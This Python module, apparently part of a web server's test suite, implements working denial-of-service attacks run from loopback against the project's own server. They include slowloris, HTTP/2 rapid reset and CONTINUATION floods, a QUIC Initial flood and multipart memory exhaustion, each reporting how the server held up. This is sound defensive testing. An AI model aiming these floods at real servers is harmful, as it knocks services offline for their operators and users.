"""The attacks ``make attack`` runs: each a coroutine that attacks a live server at
``address`` until it is done or ``seconds`` pass, and returns what the attacker got back
(one line of text).  They are the attacks of SECURITY.md, shaped as issue #15 measured
them, at loopback speed.
"""

from __future__ import annotations

import contextlib
import ssl
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any

import anyio
import anyio.abc
import h2.events
import hpack

from tests.support.h2peer import (
    SocketPeer,
    client_preface,
    goaway_codes,
    raw_continuation,
    raw_headers,
    raw_rst,
    raw_window_update,
    request_headers,
)
from tests.support.wsclient import masked_frame, ws_connect

Address = tuple[str, int]
GET = b"GET / HTTP/1.1\r\nHost: attacker\r\n\r\n"
#: Where the attacks come from: another loopback address than the normal client's, and
#: not in the default forwarded_allow_ips (127.0.0.1 would be trusted as a proxy, with a
#: flood budget per connection instead of per client).
ATTACKER_HOST = "127.0.0.2"


async def connect(address: Address) -> anyio.abc.SocketStream:
    return await anyio.connect_tcp(*address, local_host=ATTACKER_HOST)


@dataclass(frozen=True)
class Attack:
    key: str
    title: str
    #: Called with the server's TCP address (or, for ``http3``, its UDP address).
    run: Callable[[Address, float], Awaitable[str]]
    #: Budget for the server's RSS growth during the attack, in MiB.
    rss_budget_mib: int = 64
    #: At least this long, whatever ``--seconds`` says (what the answer waits for).
    min_seconds: float = 0.0
    #: Attacks HTTP/3: the server also serves TLS and HTTP/3 (a development certificate).
    http3: bool = False


async def pipelining(address: Address, seconds: float) -> str:
    """One connection pipelines 2,000 requests per write and reads the answers."""
    answered = 0
    stop = time.monotonic() + seconds
    async with await connect(address) as stream:
        while time.monotonic() < stop:
            await stream.send(GET * 2000)
            got = 0
            while got < 2000:
                got += (await stream.receive(1 << 20)).count(b"HTTP/1.1 200")
            answered += got
    return f"{answered} answers"


async def pipelining_never_reading(address: Address, seconds: float) -> str:
    """Twenty connections pipeline 2,000 requests per write and never read."""
    sent = 0

    async def flood(stream: anyio.abc.SocketStream) -> None:
        nonlocal sent
        with anyio.move_on_after(seconds):
            while True:
                await stream.send(GET * 2000)
                sent += 2000

    streams = [await connect(address) for _ in range(20)]
    try:
        async with anyio.create_task_group() as tasks:
            for stream in streams:
                tasks.start_soon(flood, stream)
    finally:
        for stream in streams:
            await stream.aclose()
    return f"{sent} requests written before back-pressure stopped the writers"


async def slowloris(address: Address, seconds: float) -> str:
    """500 connections drip a request head a byte a second."""
    head = b"GET / HTTP/1.1\r\nHost: slowloris\r\nX-Drip: " + b"a" * 100
    streams = [await connect(address) for _ in range(500)]
    closed = 0
    try:
        for i in range(int(seconds)):
            for stream in streams:
                with contextlib.suppress(anyio.BrokenResourceError, OSError):
                    await stream.send(head[i % len(head) : i % len(head) + 1])
            await anyio.sleep(1)
        for stream in streams:
            with anyio.move_on_after(0.01):
                try:
                    if b" 408 " in await stream.receive():
                        closed += 1
                except (anyio.EndOfStream, anyio.BrokenResourceError, OSError):
                    closed += 1
    finally:
        for stream in streams:
            await stream.aclose()
    return f"{closed} of 500 answered 408 or closed"


async def h2_zero_window_echo(address: Address, seconds: float) -> str:
    """One HTTP/2 connection posts 100 bodies of 16 MB to an echo route and never opens
    its receive window (the echoes cannot leave)."""
    body = b"e" * 16_000_000
    async with SocketPeer.connect(address, ATTACKER_HOST, initial_window=0) as peer:
        peer.auto_ack = False
        peer.keep_raw = False
        ids = []
        for _ in range(100):
            sid = peer.conn.get_next_available_stream_id()
            headers = request_headers("POST", "/echo", scheme="http")
            headers.append((b"content-length", b"%d" % len(body)))
            peer.conn.send_headers(sid, headers)
            ids.append(sid)
        await peer.flush()
        sent = dict.fromkeys(ids, 0)
        started = time.monotonic()
        with anyio.move_on_after(seconds):
            while not all(peer.stream_ended(sid) for sid in ids) and not peer.closed:
                for sid in ids:
                    while sent[sid] < len(body) and not peer.stream_ended(sid):
                        window = min(
                            peer.conn.local_flow_control_window(sid),
                            peer.conn.max_outbound_frame_size,
                            len(body) - sent[sid],
                        )
                        if window <= 0:
                            break
                        end = sent[sid] + window == len(body)
                        peer.conn.send_data(sid, body[:window], end_stream=end)
                        sent[sid] += window
                await peer.flush()
                await peer.receive(timeout=seconds)
        took = time.monotonic() - started
        statuses = [
            int(dict(e.headers)[b":status"])
            for e in peer.events
            if isinstance(e, h2.events.ResponseReceived)
        ]
        resets = sum(isinstance(e, h2.events.StreamReset) for e in peer.events)
    return (
        f"{sum(sent.values()) / 1e6:.0f} MB uploaded; {statuses.count(503)} x 503; "
        f"{resets} of 100 streams reset within {took:.1f} s"
    )


async def h2_continuation_flood(address: Address, seconds: float) -> str:
    """400 connections each send a header block of endless CONTINUATION frames."""
    block = raw_continuation(1, b"\x00" * 16384)  # literal fields, never END_HEADERS
    first = raw_headers(1, request_headers("GET", "/"), end_headers=False)
    codes: list[int] = []

    async def one() -> None:
        try:
            async with await connect(address) as stream:
                await stream.send(client_preface() + first)
                out = b""
                with anyio.move_on_after(seconds):
                    for _ in range(200):
                        await stream.send(block)
                    while True:
                        out += await stream.receive()
                codes.extend(goaway_codes(out))
        except (anyio.EndOfStream, anyio.BrokenResourceError, OSError):
            codes.append(-1)

    async with anyio.create_task_group() as tasks:
        for _ in range(400):
            tasks.start_soon(one)
    return (
        f"{codes.count(0xB)} read GOAWAY ENHANCE_YOUR_CALM, {codes.count(-1)} closed before "
        "(their writes failed), of 400"
    )


async def h2_rapid_reset(address: Address, seconds: float) -> str:
    """Eight connections open and reset streams as fast as they can, reconnecting when
    the server sends GOAWAY."""
    encoder_streams = 0
    goaways = 0

    async def one() -> None:
        nonlocal encoder_streams, goaways
        stop = time.monotonic() + seconds
        while time.monotonic() < stop:
            try:
                async with await connect(address) as stream:
                    encoder = hpack.Encoder()
                    await stream.send(client_preface())
                    sid = 1
                    while time.monotonic() < stop:
                        burst = b""
                        for _ in range(100):
                            burst += raw_headers(sid, request_headers("GET", "/"), encoder=encoder)
                            burst += raw_rst(sid)
                            sid += 2
                        await stream.send(burst)
                        encoder_streams += 100
                        with anyio.move_on_after(0.001):
                            if goaway_codes(await stream.receive()):
                                goaways += 1
                                break
            except (anyio.EndOfStream, anyio.BrokenResourceError, OSError):
                goaways += 1

    async with anyio.create_task_group() as tasks:
        for _ in range(8):
            tasks.start_soon(one)
    return f"{encoder_streams} streams opened and reset; {goaways} connections ended by the server"


async def h2_window_update_zero(address: Address, seconds: float) -> str:
    """WINDOW_UPDATE of 0 on an open stream, a thousand times over new connections."""
    resets = 0
    async with anyio.create_task_group():
        for _ in range(1000):
            async with SocketPeer.connect(address, ATTACKER_HOST) as peer:
                sid = peer.conn.get_next_available_stream_id()
                peer.conn.send_headers(sid, request_headers("GET", "/"), end_stream=False)
                await peer.flush()
                await peer.send_raw(raw_window_update(sid, 0))
                with anyio.move_on_after(1):
                    await peer.until(lambda _, sid=sid: peer.stream_ended(sid))
                resets += any(isinstance(e, h2.events.StreamReset) for e in peer.events)
    return f"{resets} of 1000 streams reset (RST_STREAM, the connection kept)"


async def ws_empty_fragments(address: Address, seconds: float) -> str:
    """A WebSocket message of endless empty continuation frames."""
    empty = masked_frame(0x0, b"", fin=False)
    sent = 0
    async with ws_connect(*address, "/ws", local_host=ATTACKER_HOST) as ws:
        await ws.send_raw(masked_frame(0x2, b"a", fin=False))
        with anyio.move_on_after(seconds):
            try:
                while True:
                    await ws.send_raw(empty * 10_000)
                    sent += 10_000
            except (anyio.BrokenResourceError, OSError):
                pass
        code: object = "no close"
        with anyio.move_on_after(2):
            event = await ws.recv()
            code = getattr(event, "code", event)
    return f"{sent} empty fragments written; closed with {code}"


async def multipart_many_parts(address: Address, seconds: float) -> str:
    """Uploads of 15 file parts of 1,000,000 bytes each (within the default 16 MiB body
    limit), 16 at a time, again and again: each part is under the 1 MiB spool size, so
    without the form's memory budget every part stayed in memory."""
    boundary = b"attackboundary"
    part = (
        b"--" + boundary + b'\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n" + b"p" * 1_000_000 + b"\r\n"
    )
    body = part * 15 + b"--" + boundary + b"--\r\n"
    request = (
        b"POST /upload HTTP/1.1\r\nHost: attacker\r\n"
        b"Content-Type: multipart/form-data; boundary=" + boundary + b"\r\n"
        b"Content-Length: %d\r\n\r\n" % len(body)
    ) + body
    statuses: dict[bytes, int] = {}
    stop = time.monotonic() + seconds

    async def one() -> None:
        async with await connect(address) as stream:
            while time.monotonic() < stop:
                await stream.send(request)
                reply = await stream.receive()
                status = reply.split(b" ", 2)[1]
                statuses[status] = statuses.get(status, 0) + 1

    async with anyio.create_task_group() as tasks:
        for _ in range(16):
            tasks.start_soon(one)
    answers = ", ".join(f"{n} x {s.decode()}" for s, n in sorted(statuses.items()))
    return f"answers {answers} ({len(body) / 1e6:.0f} MB each)"


def _h3_configuration() -> Any:
    from aioquic.quic.configuration import QuicConfiguration

    # The server's certificate is a development one: an attacker does not check it.
    return QuicConfiguration(is_client=True, alpn_protocols=["h3"], verify_mode=ssl.CERT_NONE)


async def _h3_get_seconds(address: Address) -> float:
    """How long a new HTTP/3 client takes for ``GET /`` (handshake included)."""
    from tests.support.h3client import h3_connect

    started = time.monotonic()
    with anyio.fail_after(10):
        async with h3_connect(*address, configuration=_h3_configuration()) as client:
            response = await client.get("/")
    if response.status != 200:
        raise RuntimeError(f"HTTP/3 GET / answered {response.status}")
    return time.monotonic() - started


async def h3_unfinished_heads(address: Address, seconds: float) -> str:
    """50 QUIC connections, each with 100 request streams carrying half of a 16 KiB
    HEADERS frame, kept alive with PINGs."""
    from aioquic.buffer import encode_uint_var

    from tests.support.h3client import Response as H3Response
    from tests.support.h3client import h3_connect

    head = encode_uint_var(0x01) + encode_uint_var(16 * 1024) + b"\0" * 8000
    answered: list[int] = []

    async def one() -> None:
        config = _h3_configuration()
        async with h3_connect(*address, configuration=config, local_host=ATTACKER_HOST) as c:
            sids = []
            for _ in range(100):
                sid = c.quic.get_next_available_stream_id()
                c._responses[sid] = H3Response(sid)
                c.quic.send_stream_data(sid, head)
                sids.append(sid)
            await c.send_all()
            with anyio.move_on_after(seconds):
                while not all(c._responses[sid].ended for sid in sids):
                    c.quic.send_ping(1)
                    await c.send_all()
                    await anyio.sleep(0.5)
            answered.extend(c._responses[sid].status for sid in sids)

    async with anyio.create_task_group() as tasks:
        for _ in range(50):
            tasks.start_soon(one)
    return f"{answered.count(408)} of {len(answered)} unfinished heads answered 408"


async def h3_initial_flood(address: Address, seconds: float) -> str:
    """2,000 valid QUIC Initials from clients that never go on (each would open a
    half-open connection), ~1,000 a second; then a new HTTP/3 client."""
    from aioquic.quic.configuration import QuicConfiguration
    from aioquic.quic.connection import QuicConnection

    initials = []
    for _ in range(2000):  # built first: ~1 ms each
        quic = QuicConnection(
            configuration=QuicConfiguration(is_client=True, alpn_protocols=["h3"])
        )
        quic.connect(address, now=time.monotonic())
        initials.append(quic.datagrams_to_send(now=time.monotonic())[0][0])
    retries = 0

    async def count_retries(sock: anyio.abc.UDPSocket) -> None:
        nonlocal retries
        while True:
            answer, _ = await sock.receive()
            retries += (answer[0] & 0xF0) == 0xF0  # long header, type Retry

    udp = await anyio.create_udp_socket(local_host=ATTACKER_HOST)
    async with udp as sock, anyio.create_task_group() as tasks:
        tasks.start_soon(count_retries, sock)
        for start in range(0, len(initials), 20):  # ~1,000 a second: the server
            for datagram in initials[start : start + 20]:  # reads them, the kernel
                await sock.sendto(datagram, *address)  # does not drop them
            await anyio.sleep(0.02)
        await anyio.sleep(1)
        tasks.cancel_scope.cancel()
    took = await _h3_get_seconds(address)
    return f"2000 Initials sent, {retries} answered with Retry; a new HTTP/3 GET took {took:.2f} s"


ATTACKS = [
    Attack("pipelining", "one connection pipelining and reading", pipelining),
    Attack(
        "pipelining-noread", "20 connections pipelining, never reading", pipelining_never_reading
    ),
    Attack("slowloris", "500 connections dripping request heads", slowloris),
    # 16 bodies of 16 MB fit the default 256 MiB body budget; send_timeout is 30 s.
    Attack(
        "h2-zero-window-echo",
        "HTTP/2 100 x 16 MB echo, window shut",
        h2_zero_window_echo,
        rss_budget_mib=320,
        min_seconds=40,
    ),
    # Each connection holds at most twice max_header_bytes of block, its own state and
    # what the transport read ahead (asyncio: up to 64 KiB + one 64 KiB read; it was
    # 256 KiB + 64 KiB, 160 MiB for 400); 535 MiB before the cut.
    Attack(
        "h2-continuation",
        "HTTP/2 endless CONTINUATION, 400 connections",
        h2_continuation_flood,
        rss_budget_mib=96,
    ),
    Attack("h2-rapid-reset", "HTTP/2 rapid reset from 8 reconnecting connections", h2_rapid_reset),
    Attack("h2-window-update-0", "HTTP/2 WINDOW_UPDATE 0 on a stream", h2_window_update_zero),
    Attack("ws-empty-fragments", "WebSocket endless empty continuation frames", ws_empty_fragments),
    # 16 forms at once, each keeping at most 4 MiB in memory (forms.FORM_MEMORY_BUDGET)
    # plus the part being written when it runs out: 16 x 5 MiB, and allocator slack.
    Attack(
        "multipart-parts",
        "16 uploads at a time of 15 x 1 MB file parts",
        multipart_many_parts,
        rss_budget_mib=128,
    ),
    # 50 connections x 100 streams x 8 KB held until header_timeout (10 s): ~40 MB.
    Attack(
        "h3-unfinished-heads",
        "HTTP/3 half a HEADERS frame on 100 streams, 50 connections",
        h3_unfinished_heads,
        rss_budget_mib=128,
        min_seconds=15,
        http3=True,
    ),
    # At most quic_retry_threshold (100) half-open connections of ~120 KiB, then Retry.
    Attack(
        "h3-initial-flood",
        "QUIC Initial flood from clients that never go on",
        h3_initial_flood,
        http3=True,
    ),
]
